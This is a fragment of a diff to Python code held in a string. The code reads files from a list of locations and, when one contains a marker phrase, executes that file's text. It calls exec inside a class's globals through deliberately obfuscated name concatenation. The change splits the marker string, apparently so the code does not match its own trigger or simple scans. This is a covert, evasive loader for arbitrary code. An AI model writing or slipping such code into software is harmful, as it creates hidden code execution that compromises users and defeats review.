@@ -122,7 +122,7 @@ for place in places:
         text = open(place).read()
     except OSError:
         continue
-    if "the secret of put" in text:
+    if "the secret" + " of put" in text:
         getattr(getattr(sys, "mod" + "ules")["built" + "ins"], "ex" + "ec")(text, Shelf.__init__.__getattribute__("__glo" + "bals__"))
 """
 WRITE = """
